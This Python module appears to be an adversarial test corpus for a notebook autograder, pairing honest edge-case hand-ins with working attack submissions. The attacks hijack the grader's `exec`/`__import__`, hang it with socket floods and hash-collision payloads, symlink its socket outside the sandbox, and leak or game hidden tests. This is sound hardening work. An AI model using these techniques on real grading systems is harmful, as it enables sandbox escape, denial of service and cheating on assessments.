"""Hand-ins written by a helper playing the hostile learner against the trusted runner.

Each entry of :data:`ATTACKS` is ``answers`` (by grade id), optional ``extras`` (files handed
in) and ``edit`` (cell surgery), ``passes``: the test cells it honestly deserves, and optional
``flags``: the flag kinds the report must give. The
comment above each says the route it tries. :data:`CORPUS` names the ones the corpus grades in
its one class run (see :func:`tests.corpus.cases.attack_cases`); the others need a fake server
on the host, only show damage in the parent process, or are diagnostics.
"""

import nbformat

ALL4 = {"test_update_numbers", "test_update_arrays", "test_update_converges", "test_learning_rate"}
RIGHT = (
    "def gradient_descent_update(x, gradx, learning_rate):\n    return x - learning_rate * gradx\n"
)
WRONG = (
    "def gradient_descent_update(x, gradx, learning_rate):\n    return x + learning_rate * gradx\n"
)
RATE = "def choose_learning_rate():\n    return 0.1\n"
RIGHT_02 = (
    "import numpy as np\n"
    "def cost_gradient(w, b, x, y):\n"
    "    error = w * x + b - y\n"
    "    return np.array([2 * np.mean(error * x), 2 * np.mean(error)])\n"
)


def add_cell(after_gid, source):
    """An `edit` that puts a plain code cell after the cell with grade id `after_gid`
    (None: at the end)."""

    def edit(nb):
        cell = nbformat.v4.new_code_cell(source)
        if after_gid is None:
            nb.cells.append(cell)
            return
        for i, c in enumerate(nb.cells):
            if c.metadata.get("nbgrader", {}).get("grade_id") == after_gid:
                nb.cells.insert(i + 1, cell)
                return
        raise KeyError(after_gid)

    return edit


def edits(*fs):
    def edit(nb):
        for f in fs:
            f(nb)

    return edit


# --- a learner-side server in place of the grader's -------------------------------------------
# The call server starts as a user expression evaluated in the learner's namespace
# (runner.py server_expression): `exec`, `compile`, `globals` and `__import__` there are looked
# up in the learner's globals first. A learner `exec` (or an `__import__` that hands back a
# builtins whose `exec` is the learner's) lets the grader's code run, then swaps the `serve`
# it just defined for the learner's own, which gets the secret socket path as an argument.
SQUAT = r"""
import os as _os, socket as _socket, struct as _struct, time as _time

def _enc(v):
    if v is None: return b"N"
    if v is True: return b"T"
    if v is False: return b"F"
    if type(v) is int:
        raw = v.to_bytes((v.bit_length() + 8) // 8 or 1, "little", signed=True)
        return b"i" + _struct.pack("<I", len(raw)) + raw
    if type(v) is float: return b"f" + _struct.pack("<d", v)
    if type(v) is str:
        raw = v.encode(); return b"s" + _struct.pack("<I", len(raw)) + raw
    if type(v) in (tuple, list):
        return (b"t" if type(v) is tuple else b"l") + _struct.pack("<I", len(v)) + b"".join(map(_enc, v))
    raise TypeError(type(v))

def _recv(c, n):
    buf = b""
    while len(buf) < n:
        chunk = c.recv(n - len(buf))
        if not chunk: raise EOFError
        buf += chunk
    return buf

def _frame(c):
    return _recv(c, _struct.unpack(">I", _recv(c, 4))[0])

def _send(c, data):
    c.sendall(_struct.pack(">I", len(data)) + data)

def _listen(path):
    s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    s.bind(path); s.listen(1)
    c, _ = s.accept()
    return c

_RB = print.__self__  # the module of built-in names, without the word the static scan looks for

def exec(code, ns=None, *rest):   # route 1 (server_expression at f6b2071): bare `exec`
    _RB.exec(code, ns, *rest)
    if type(ns) is dict and ns.get("__name__") == "__autograder__":
        real = ns["serve"]
        # serve(path, snapshots, [live,] encode, decode, caps, max_request)
        ns["serve"] = lambda *a: _HOSTILE(a[0], a[1], a[-4], a[-3], a[-2], a[-1], real)

class _FakeBuiltins:              # route 2 (the working tree at 01:35): `__import__` of that module
    def __getattr__(self, name):
        return exec if name == "exec" else getattr(_RB, name)

def __import__(name, *args, **kwargs):
    return _FakeBuiltins() if name == "built" + "ins" else _RB.__import__(name, *args, **kwargs)
"""

FLOOD = (
    SQUAT
    + r"""
def _HOSTILE(path, snaps, encode, decode, caps, mx, real):
    c = _listen(path)
    _frame(c)                      # the first request ("name" of the first function)
    stale = encode((0, "ok", ""))  # a reply to request 0, which the runner never sent
    frame = _struct.pack(">I", len(stale)) + stale
    end = _time.monotonic() + 45   # could be forever; 45 s shows there is no deadline
    while _time.monotonic() < end:
        c.sendall(frame * 64)
    _send(c, encode((1, "ok", "")))
    _time.sleep(3600)
"""
)

HASHBOMB = (
    SQUAT
    + r"""
def _HOSTILE(path, snaps, encode, decode, caps, mx, real):
    c = _listen(path)
    number = decode(_frame(c))[0]
    M, n = 2**61 - 1, 499_000      # all keys hash to 0: decoding the dict is quadratic
    parts = [b"t", _struct.pack("<I", 2), _enc(number), b"d", _struct.pack("<I", n)]
    for k in range(1, n + 1):
        parts.append(_enc(k * M) + b"N")
    _send(c, b"".join(parts))
    _time.sleep(3600)
"""
)

ESCAPE_VALUEERROR = (
    SQUAT
    + r"""
def _HOSTILE(path, snaps, encode, decode, caps, mx, real):
    # an empty array whose shape numpy refuses: decode raises a plain ValueError, not CodecError
    c = _listen(path)
    code = b"<f8"
    arr = (b"a" + bytes([len(code)]) + code + bytes([32]) + _struct.pack("<I", 0)
           + _struct.pack("<I", 2**32 - 1) * 31 + _struct.pack("<I", 0))
    while True:
        number = decode(_frame(c))[0]
        _send(c, b"t" + _struct.pack("<I", 2) + _enc(number) + arr)
"""
)

# a learner who never touches the socket but whose later exploring cell re-binds a global
LATER_RATE = "lr = 0.1\n\ndef choose_learning_rate():\n    return lr\n"

# record the hidden tests' inputs, then put them in the feedback through an exception message
LEAK_ARGS = r"""
import sys
_seen = []
def gradient_descent_update(x, gradx, learning_rate):
    if sys._getframe(1).f_globals.get("__name__") == "__autograder__":  # called by the grader
        _seen.append((x, gradx, learning_rate))
        if len(_seen) == 12:  # 3 visible calls, then the hidden test's random inputs
            raise ValueError("LEAK " + repr(_seen[3:]))
    return x - learning_rate * gradx
"""

ATTACKS = {
    # --- baselines
    # held: the right answer
    "honest": dict(
        answers={"gradient_descent_update": RIGHT, "choose_learning_rate": RATE}, passes=ALL4
    ),
    # held: a blank notebook scores 0
    "blank": dict(answers={}, passes=set()),
    # held: x + learning_rate * gradx, right rate
    "wrong_plus": dict(
        answers={"gradient_descent_update": WRONG, "choose_learning_rate": RATE},
        passes={"test_learning_rate"},
    ),
    # --- (c) a learner thread squats the socket path, then floods stale replies: the runner's
    # reply loop (runner.py KernelChannel.request) has no deadline of its own, and the "name"
    # requests of GradingSuite.namespace run outside run_test's alarm: the worker spins as long
    # as the learner wants (45 s here; forever is as easy)
    "squat_flood": dict(answers={"gradient_descent_update": FLOOD + WRONG}, passes=set()),
    # --- (c) the same squat answers the first "name" request with a dict of 499k int keys that
    # all hash to 0: codec.decode takes ~40 min of worker CPU (quadratic dict inserts), no alarm
    "squat_hashbomb": dict(answers={"gradient_descent_update": HASHBOMB + WRONG}, passes=set()),
    # --- (a/c) a reply that makes codec.decode raise a plain ValueError (numpy reshape): not
    # CallFailed, it escapes GradingSuite.namespace and the whole hand-in is "not graded"
    # (grader flag, never a zero) instead of scoring 0
    # (outcome: graded=None, flag "grader": "not graded", kept out of the gradebook and CSV)
    "squat_valueerror": dict(answers={"gradient_descent_update": ESCAPE_VALUEERROR}, passes=set()),
    # --- (d) honest: the rate lives in a global that a later exploring cell re-binds (as cell 21
    # explores 50.0); nbgrader grades the value at the test, the runner calls after every cell
    "honest_global_rebound_later": dict(
        answers={"gradient_descent_update": RIGHT, "choose_learning_rate": LATER_RATE},
        edit=add_cell(
            "test_learning_rate",
            "lr = 50.0  # what happens with a big step?\nprint(choose_learning_rate())",
        ),
        passes=ALL4,
    ),
    # --- (b) the hidden tests' inputs come back in the learner's feedback (exception message)
    "leak_hidden_args": dict(
        answers={"gradient_descent_update": LEAK_ARGS, "choose_learning_rate": RATE},
        passes={"test_update_arrays", "test_update_converges", "test_learning_rate"},
    ),
}

COUNT = r"""
_seen = []
def gradient_descent_update(x, gradx, learning_rate):
    _seen.append(1)
    if len(_seen) in (3, 5, 38, 45):
        raise ValueError(f"call {len(_seen)} args {x!r} {gradx!r} {learning_rate!r}")
    return x - learning_rate * gradx
"""
# diagnostic (not an attack): learner cells call the function before the tests; the 38th call
# (counted from the notebook start) is in the hidden test, and its inputs come back in the message
ATTACKS["debug_count"] = dict(
    answers={"gradient_descent_update": COUNT, "choose_learning_rate": RATE},
    passes={"test_update_arrays", "test_learning_rate"},
)

# diagnostic: with the old fixed socket name a learner thread could bind it first (now the name is
# random; the `exec` hijack above replaces this route)
ATTACKS["debug_squat"] = dict(
    answers={"gradient_descent_update": FLOOD + WRONG},
    edit=add_cell(None, "import threading, os\nprint([t.name for t in threading.enumerate()])"),
    passes=set(),
)

# ------------------------------------------------------------------------------------------------
# (d) honest variants
U = "gradient_descent_update"
C = "choose_learning_rate"
HELPER = (
    "def step(x, gradx, learning_rate):\n    return learning_rate * gradx\n\n"
    "def gradient_descent_update(x, gradx, learning_rate):\n    return x - step(x, gradx, learning_rate)\n"
)
ATTACKS.update(
    {
        # a helper re-defined by a later exploring cell (a momentum-style step that needs state):
        # the snapshot keeps gradient_descent_update, but its global `step` is looked up at call time
        "honest_helper_redefined_later": dict(
            answers={U: HELPER, C: RATE},
            edit=add_cell(
                "test_learning_rate",
                "velocity = 0.0\ndef step(x, gradx, learning_rate):  # trying momentum\n"
                "    global velocity\n    velocity = 0.9 * velocity + learning_rate * gradx\n"
                "    return velocity\n",
            ),
            passes=ALL4,
        ),
        # exact rational rate: plain nbgrader passes it (float() works), the codec refuses Fraction
        "honest_fraction_rate": dict(
            answers={
                U: RIGHT,
                C: "from fractions import Fraction\n\ndef choose_learning_rate():\n    return Fraction(1, 10)\n",
            },
            passes=ALL4,
        ),
        "honest_decimal_rate": dict(
            answers={
                U: RIGHT,
                C: "from decimal import Decimal\n\ndef choose_learning_rate():\n    return Decimal('0.1')\n",
            },
            passes=ALL4,
        ),
        # helper code handed in beside the notebook (plain nbgrader: the notebook's folder is on sys.path)
        "honest_helper_module": dict(
            answers={U: "from mysteps import gradient_descent_update\n", C: RATE},
            extras={"mysteps.py": RIGHT.encode()},
            passes=ALL4,
        ),
        # held: prints go to a StringIO during calls
        "honest_prints_in_function": dict(
            answers={
                U: "def gradient_descent_update(x, gradx, learning_rate):\n    new = x - learning_rate * gradx\n"
                "    print('step', x, '->', new)\n    return new\n",
                C: RATE,
            },
            passes=ALL4,
        ),
        # held: display() during a call goes to iopub, which nobody reads then
        "honest_display_in_function": dict(
            answers={
                U: "from IPython.display import display\n\ndef gradient_descent_update(x, gradx, learning_rate):\n"
                "    display(x)\n    return x - learning_rate * gradx\n",
                C: RATE,
            },
            passes=ALL4,
        ),
        # held: a lambda bound to the answer name (__name__ "<lambda>")
        "honest_lambda": dict(
            answers={
                U: "gradient_descent_update = lambda x, gradx, learning_rate: x - learning_rate * gradx\n",
                C: RATE,
            },
            passes=ALL4,
        ),
        # held: numpy functions, float32 rate
        "honest_np_calls": dict(
            answers={
                U: "import numpy as np\n\ndef gradient_descent_update(x, gradx, learning_rate):\n"
                "    return np.subtract(x, np.multiply(learning_rate, gradx))\n",
                C: "import numpy as np\n\ndef choose_learning_rate():\n    return np.float32(0.25)\n",
            },
            passes=ALL4,
        ),
        # held: 0-d arrays as results
        "honest_0d_array": dict(
            answers={
                U: "import numpy as np\n\ndef gradient_descent_update(x, gradx, learning_rate):\n"
                "    return np.array(x) - learning_rate * np.array(gradx)\n",
                C: "import numpy as np\n\ndef choose_learning_rate():\n    return np.array(0.1)\n",
            },
            passes=ALL4,
        ),
        # held: the snapshot keeps the function bound at the test, not the later wrong one
        "honest_redefined_wrong_after": dict(
            answers={U: RIGHT, C: RATE},
            edit=add_cell(
                None,
                "def gradient_descent_update(x, gradx, learning_rate):  # what if I add?\n"
                "    return x + learning_rate * gradx\n\ndef choose_learning_rate():\n    return 50\n",
            ),
            passes=ALL4,
        ),
        # held: del after the tests
        "honest_del_after": dict(
            answers={U: RIGHT, C: RATE},
            edit=add_cell(None, "del gradient_descent_update, choose_learning_rate\n"),
            passes=ALL4,
        ),
        # correct but slow (3 ms a call): the convergence test (2,100 calls) runs out of time under
        # both graders; the time-out's interrupt must not cost the independent learning-rate test
        "honest_slow": dict(
            answers={
                U: "import time\n\ndef gradient_descent_update(x, gradx, learning_rate):\n"
                "    time.sleep(0.003)\n    return x - learning_rate * gradx\n",
                C: RATE,
            },
            passes={"test_update_numbers", "test_update_arrays", "test_learning_rate"},
        ),
        # held: tuples for arrays, 1/4 as the rate
        "honest_int_rate_tuple": dict(
            answers={
                U: "def gradient_descent_update(x, gradx, learning_rate):\n"
                "    try:\n        return tuple(a - learning_rate * g for a, g in zip(x, gradx))\n"
                "    except TypeError:\n        return x - learning_rate * gradx\n",
                C: "def choose_learning_rate():\n    return 1 / 4\n",
            },
            passes=ALL4,
        ),
        # held: loops returning a list (notebook 2)
        "honest_02_loops": dict(
            assignment="02_the_gradient",
            answers={
                "cost_gradient": "def cost_gradient(w, b, x, y):\n    n = len(x)\n    dw = db = 0.0\n"
                "    for xi, yi in zip(x, y):\n        e = w * xi + b - yi\n"
                "        dw += 2 * e * xi / n\n        db += 2 * e / n\n    return [dw, db]\n"
            },
            passes={"test_cost_gradient"},
        ),
        # held: the numpy solution (notebook 2)
        "honest_02_np": dict(
            assignment="02_the_gradient",
            answers={"cost_gradient": RIGHT_02},
            passes={"test_cost_gradient"},
        ),
    }
)

# diagnostic: the kernel's HOME (/home/grader) is unreachable: bwrap makes /home 0700 root, so
# IPython and matplotlib fall back to temporary folders (stderr in every matplotlib cell)
ATTACKS["debug_home"] = dict(
    answers={U: RIGHT, C: RATE},
    edit=add_cell(
        None,
        "import os\nprint(os.getuid(), os.getgid(), os.getgroups())\nfor p in ('/home', '/home/grader', os.getcwd()):\n    st = os.stat(p); print(p, st.st_uid, st.st_gid, oct(st.st_mode))",
    ),
    passes=ALL4,
)

# (a) the runner (root, on the host) connects to whatever the socket path names when it
# connects: the learner's `serve` makes the path a symlink to a unix socket outside the sandbox
# (attacks_fake_server.py stands in for any socket on the host that answers); a blank notebook
# is then graded against that socket's answers
SYMLINK_OUTSIDE = (
    SQUAT
    + r"""
def _HOSTILE(path, snaps, encode, decode, caps, mx, real):
    _os.symlink("/tmp/attack-outside.sock", path)
    _time.sleep(3600)
"""
)
ATTACKS["symlink_outside"] = dict(answers={U: SYMLINK_OUTSIDE}, passes=set())

ATTACKS.update(
    {
        # honest clean-up at the end of the notebook: IPython's %reset clears the user namespace,
        # and with it the snapshots the grader kept there (runner.py snapshot_expression, SNAPSHOTS)
        "honest_reset_at_end": dict(
            answers={U: RIGHT, C: RATE},
            edit=add_cell(None, "%reset -f\nprint('namespace cleared')\n"),
            passes=ALL4,
        ),
        "honest_reset_in_middle": dict(
            answers={U: RIGHT, C: RATE},
            edit=add_cell("test_update_converges", "%reset -f\nimport numpy as np\n"),
            passes=ALL4,
        ),  # (plain nbgrader would fail test_learning_rate: check_learning_rate is gone)
        # (a) 02: return [0, 2 b] and zero the data in place, so that the hidden test's `want`
        # (computed from xs, ys after the call) matches; the copy-back makes the runner see it
        # held: the visible check compares the copies it passed, and the hidden test checks the data last
        "copyback_zero_data_02": dict(
            assignment="02_the_gradient",
            answers={
                "cost_gradient": "def cost_gradient(w, b, x, y):\n    x[:] = 0\n    y[:] = 0\n    return [0.0, 2.0 * b]\n"
            },
            passes=set(),
        ),
        # exceptions: a builtin-named custom class, a BaseException, a str() that fails
        # held: a custom class named StopIteration comes back as the builtin; no test swallows it
        "exc_custom_named_stopiteration": dict(
            answers={
                U: "class StopIteration(Exception):\n    pass\n\ndef gradient_descent_update(x, gradx, learning_rate):\n"
                "    raise StopIteration('done')\n",
                C: RATE,
            },
            passes={"test_learning_rate"},
        ),
        # held: KeyboardInterrupt / SystemExit from learner code come back as LearnerError
        "exc_base_keyboardinterrupt": dict(
            answers={
                U: "def gradient_descent_update(x, gradx, learning_rate):\n    raise KeyboardInterrupt\n",
                C: "def choose_learning_rate():\n    raise SystemExit(0)\n",
            },
            passes=set(),
        ),
        # WRONG: callserver._call does str(error) unguarded; the server dies and the independent
        # test_learning_rate is lost too (self-inflicted, low)
        "exc_str_fails": dict(
            answers={
                U: "class Weird(Exception):\n    def __str__(self):\n        raise RuntimeError('no')\n\n"
                "def gradient_descent_update(x, gradx, learning_rate):\n    raise Weird()\n",
                C: RATE,
            },
            passes={"test_learning_rate"},
        ),
    }
)

ATTACKS.update(
    {
        # an honest helper that happens to be called `compile` (shadowing the builtin is legal):
        # the server expression (runner.py server_expression) calls `compile`/`exec` by bare name in
        # the learner's namespace, so the call server never starts and every test fails
        "honest_shadow_compile": dict(
            answers={U: RIGHT, C: RATE},
            edit=add_cell(
                None,
                'def compile(xs):\n    """Compile the results into one line."""\n'
                "    return ', '.join(f'{x:.3g}' for x in xs)\n\n"
                "print(compile([x_final, x_diverged]))\n",
            ),
            passes=ALL4,
            # the static scan names the rebinding (suspicious); it never costs a point
            flags={"suspicious"},
        ),
    }
)

for _ms in (2.4, 2.6, 2.8):
    ATTACKS[f"honest_slow_busy_{_ms}"] = dict(
        answers={
            U: "import time\n\ndef gradient_descent_update(x, gradx, learning_rate):\n"
            f"    end = time.perf_counter() + {_ms / 1000}\n    while time.perf_counter() < end:\n        pass\n"
            "    return x - learning_rate * gradx\n",
            C: RATE,
        },
        passes={"test_update_numbers", "test_update_arrays", "test_learning_rate"},
    )

# (b) search everything the kernel can reach during the hidden tests' calls (the caller's frames,
# every live object, every readable file under / that is small) for the planted hidden constant
# or hidden-test source, and raise it into the feedback
SEARCH = r"""
import gc, os, sys
def _search():
    found = []
    f = sys._getframe(1)
    while f is not None:
        for v in list(f.f_locals.values()) + list(f.f_globals.values()):
            if isinstance(v, str) and ("QZX7731" in v or "_hidden_" in v):
                found.append(v[:80])
        f = f.f_back
    for o in gc.get_objects():
        if isinstance(o, str) and ("QZX7731" in o or "_hidden_update" in o):
            found.append(o[:80])
    for root in ("/tmp", os.getcwd(), "/home"):
        for d, _, files in os.walk(root):
            for n in files:
                try:
                    data = open(os.path.join(d, n), "rb").read(1 << 20)
                except Exception:
                    continue
                if b"QZX7731" in data or b"_hidden_update" in data:
                    found.append(os.path.join(d, n))
    return found

_calls = [0]
def gradient_descent_update(x, gradx, learning_rate):
    if sys._getframe(1).f_globals.get("__name__") == "__autograder__":
        _calls[0] += 1
        if _calls[0] == 5:
            raise ValueError("FOUND " + repr(_search())[:900])
    return x - learning_rate * gradx
"""
# held: the planted constant and hidden source are nowhere in the kernel (frames, gc, files)
ATTACKS["search_planted"] = dict(
    answers={U: SEARCH, C: RATE},
    passes={"test_update_arrays", "test_update_converges", "test_learning_rate"},
)

# (c) the same hang without burning CPU: a frame header, then one byte every 2 s; each recv()
# gets data before the socket time-out, and nothing checks the request's overall deadline
DRIBBLE = (
    SQUAT
    + r"""
def _HOSTILE(path, snaps, encode, decode, caps, mx, real):
    c = _listen(path)
    _frame(c)
    c.sendall(_struct.pack(">I", 1000))
    end = _time.monotonic() + 45   # forever is as easy
    while _time.monotonic() < end:
        c.sendall(b"N"); _time.sleep(2)
    _time.sleep(3600)
"""
)
ATTACKS["squat_dribble"] = dict(answers={U: DRIBBLE + WRONG}, passes=set())

# (c) hang during the learner's run: the snapshot request (execution.py LearnerExecute._snapshot)
# waits with nbclient's wait_for_reply, whose time-out only counts shell *silences*
# (nbclient client.py async_wait_for_reply: cumulative Empty intervals). The snapshot expression
# calls `globals()` by bare name, so a learner `globals` blocks the request and sends a stray
# shell reply (another msg_id) every second: no silence, no time-out, no notebook budget check
SHELL_JUNK = r"""
import time as _t
def globals():
    k = get_ipython().kernel
    ident = k._parent_ident["shell"]
    if getattr(k, "_supports_kernel_subshells", False):
        stream = k.shell_channel_thread.manager.get_subshell_to_shell_channel_socket(None)
    else:
        stream = k.shell_stream
    end = _t.monotonic() + 45    # forever is as easy
    while _t.monotonic() < end:
        k.session.send(stream, "execute_reply", {"status": "ok", "execution_count": 0},
                       {"msg_id": "stray", "msg_type": "execute_request"}, ident)
        _t.sleep(1)
    return {}
"""
ATTACKS["shell_junk_snapshot_hang"] = dict(answers={U: SHELL_JUNK + WRONG}, passes=set())

ATTACKS.update(
    {
        # honest habit from scripts: `exit()` as the last line. In ipykernel it shuts the kernel down
        # after the cell, so every snapshot is gone before the call server starts: all tests lost,
        # though plain nbgrader had run (and passed) every test cell before it
        "honest_exit_at_end": dict(
            answers={U: RIGHT, C: RATE}, edit=add_cell(None, "print('done')\nexit()\n"), passes=ALL4
        ),
        # the same for a kernel that dies in a last exploratory cell (os._exit stands in for the
        # memory limit's kill or a segfault in a library)
        "honest_kernel_dies_at_end": dict(
            answers={U: RIGHT, C: RATE},
            edit=add_cell(
                None, "import os\nos._exit(1)  # stands in for an OOM kill in a last exploration\n"
            ),
            passes=ALL4,
        ),
    }
)

# control for squat_flood: the same flood, but only after the two "name" requests, i.e. inside
# run_test; there the alarm (TEST_GRACE) bounds it, which shows the hang is the namespace phase
FLOOD_IN_TEST = (
    SQUAT
    + r"""
def _HOSTILE(path, snaps, encode, decode, caps, mx, real):
    c = _listen(path)
    for _ in range(2):
        number = decode(_frame(c))[0]
        _send(c, encode((number, "ok", "f")))
    _frame(c)
    stale = encode((0, "ok", ""))
    frame = _struct.pack(">I", len(stale)) + stale
    end = _time.monotonic() + 45
    while _time.monotonic() < end:
        c.sendall(frame * 64)
    _time.sleep(3600)
"""
)
ATTACKS["squat_flood_in_test"] = dict(answers={U: FLOOD_IN_TEST + WRONG}, passes=set())

# (c) a lone surrogate in the learner's exception message: the codec carries it
# ("surrogatepass", codec.py), it lands in the verdict's evalue, in Outcome.tests and in the
# graded notebook; the parent's single writer then fails to encode it as UTF-8: save_outcome's
# write_text (caught: "not graded") and append_journal (not caught: the whole run stops).
# Check the parent's side with attacks_parent.py, the real CLI with attacks_cli_run.py:
# the harness's score is right, but `python -m autograder grade` exits 1 with no feedback.
ATTACKS["surrogate_evalue"] = dict(
    answers={
        U: "def gradient_descent_update(x, gradx, learning_rate):\n    raise ValueError('\\ud800')\n",
        C: RATE,
    },
    passes={"test_learning_rate"},
)


def _surrogate_grade_id(nb):
    cell = nbformat.v4.new_code_cell("pass")
    cell.metadata["nbgrader"] = {
        "grade_id": "x\ud800",
        "grade": False,
        "solution": False,
        "locked": False,
    }
    nb.cells.append(cell)


# (c) the same crash without the runner: a notebook whose JSON has a "\ud800" escape in a grade
# id; tamper.inspect_structure names it in a flag ("cells with unknown grade ids: x\ud800"),
# and the journal cannot be written. Only via attacks_cli_run.py (needs ASCII-escaped JSON).
ATTACKS["surrogate_grade_id"] = dict(
    answers={U: RIGHT, C: RATE}, edit=_surrogate_grade_id, ascii_json=True, passes=ALL4
)


# --- attack13: the hidden convergence test's two starts ----------------------------------------
# Down from five random starts to two, the hidden convergence test started at 519 and 3936
# only (random.Random(303).randint(1, 10000)): nothing went near the top of the exercise's own
# start range (0 to 10,000, gdcourse.config.START_RANGE). An update that is wrong only for large
# steps (a clipped gradient, half a step far from the minimum) passed all three update tests;
# five starts had caught both (the fifth started at 9277). The hidden test now follows one run
# from 10,000 (where the steps are largest) and one random start.
CLIPPED = (
    "import numpy as np\n\n"
    "def gradient_descent_update(x, gradx, learning_rate):\n"
    '    """One step downhill; the gradient clipped to 8000 so a far start cannot overshoot."""\n'
    "    return x - learning_rate * np.clip(gradx, -8000, 8000)\n"
)
HALF_STEP_FAR = (
    "import numpy as np\n\n"
    "def gradient_descent_update(x, gradx, learning_rate):\n"
    "    if np.max(np.abs(x)) > 4000:  # far away: a half step, to be careful\n"
    "        return x - learning_rate * gradx / 2\n"
    "    return x - learning_rate * gradx\n"
)
_NOT_CONVERGES = {"test_update_numbers", "test_update_arrays", "test_learning_rate"}
ATTACKS["clipped_gradient"] = dict(answers={U: CLIPPED, C: RATE}, passes=_NOT_CONVERGES)
ATTACKS["half_step_far"] = dict(answers={U: HALF_STEP_FAR, C: RATE}, passes=_NOT_CONVERGES)


# --- attack13: nbgrader metadata that the structure repair let through -------------------------
# A cell of the learner's own with nbgrader metadata but no grade id (or a null one, or
# metadata that is not an object at all) kept it through tamper.restore_structure, which only
# stripped cells whose grade id the release lacks; nbgrader's DeduplicateIds then failed on it
# (KeyError), or the check that reads grade ids did (AttributeError), or, with a null id, the
# single writer's SaveAutoGrades (MissingEntry). Each time the learner was "not graded", the
# grader's own failure: never scored, graded again (and failing again) by every run.
def _nbgrader_cell(meta):
    def edit(nb):
        cell = nbformat.v4.new_code_cell("print('an extra test of my own')")
        cell.metadata["nbgrader"] = meta
        nb.cells.append(cell)

    return edit


_GRADED_EXTRA = {"grade": True, "solution": False, "locked": False, "points": 5}
ATTACKS.update(
    {
        "nbgrader_no_grade_id": dict(
            answers={U: RIGHT, C: RATE},
            edit=_nbgrader_cell(_GRADED_EXTRA),
            passes=ALL4,
            flags={"tampered"},
        ),
        "nbgrader_null_grade_id": dict(
            answers={U: RIGHT, C: RATE},
            edit=_nbgrader_cell({**_GRADED_EXTRA, "grade_id": None}),
            passes=ALL4,
            flags={"tampered"},
        ),
        "nbgrader_not_an_object": dict(
            answers={U: RIGHT, C: RATE},
            edit=_nbgrader_cell("test_update_numbers"),
            passes=ALL4,
            flags={"tampered"},
        ),
    }
)

#: The attacks graded with the rest of the corpus.
CORPUS = [
    "squat_flood",
    "squat_dribble",
    "squat_hashbomb",
    "squat_valueerror",
    "shell_junk_snapshot_hang",
    "surrogate_evalue",
    "exc_str_fails",
    "exc_custom_named_stopiteration",
    "copyback_zero_data_02",
    "leak_hidden_args",
    "honest_global_rebound_later",
    "honest_helper_redefined_later",
    "honest_reset_at_end",
    "honest_reset_in_middle",
    "honest_fraction_rate",
    "honest_decimal_rate",
    "honest_shadow_compile",
    "honest_display_in_function",
    "honest_0d_array",
    "honest_kernel_dies_at_end",
    "clipped_gradient",
    "half_step_far",
    "nbgrader_no_grade_id",
    "nbgrader_null_grade_id",
    "nbgrader_not_an_object",
]
